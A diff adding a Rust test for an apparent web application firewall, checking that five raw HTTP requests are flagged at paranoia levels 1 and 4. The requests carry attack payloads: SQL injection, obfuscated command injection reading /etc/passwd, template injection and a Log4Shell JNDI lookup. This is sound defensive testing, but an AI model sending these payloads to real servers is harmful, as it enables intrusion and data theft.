@@ -95,3 +95,46 @@ fn bad_settings_are_refused_naming_the_field() {
     let out = waf_test(&["x", "--exclude", "9999"], None);
     assert!(String::from_utf8_lossy(&out.stderr).contains("unknown rule id 9999"));
 }
+
+#[test]
+fn raw_requests_with_attacks_in_path_headers_and_templates_exit_1_at_every_level() {
+    let cases: [(&str, &str); 5] = [
+        (
+            "GET /item/1'%20OR%20'1'='1 HTTP/1.1\r\nHost: a\r\n\r\n",
+            "2004",
+        ),
+        (
+            "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ' UNION SELECT password FROM users--\r\n\r\n",
+            "2002",
+        ),
+        (
+            "GET /?h=x;c''at%20/e''tc/pa''sswd HTTP/1.1\r\nHost: a\r\n\r\n",
+            "5001",
+        ),
+        (
+            "GET /?n={{7*7}}{{config.__class__}} HTTP/1.1\r\nHost: a\r\n\r\n",
+            "7001",
+        ),
+        (
+            "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\r\n",
+            "7004",
+        ),
+    ];
+    for pl in ["1", "4"] {
+        for (request, rule) in cases {
+            let out = waf_test(&["--paranoia", pl, "--json", "-"], Some(request.as_bytes()));
+            assert_eq!(out.status.code(), Some(1), "PL{pl} {request}");
+            let v = json(&out);
+            let rules: Vec<String> = v["matches"]
+                .as_array()
+                .expect("matches")
+                .iter()
+                .map(|m| m["rule"].to_string())
+                .collect();
+            assert!(
+                rules.iter().any(|r| r == rule),
+                "PL{pl} {request}: {rules:?}"
+            );
+        }
+    }
+}
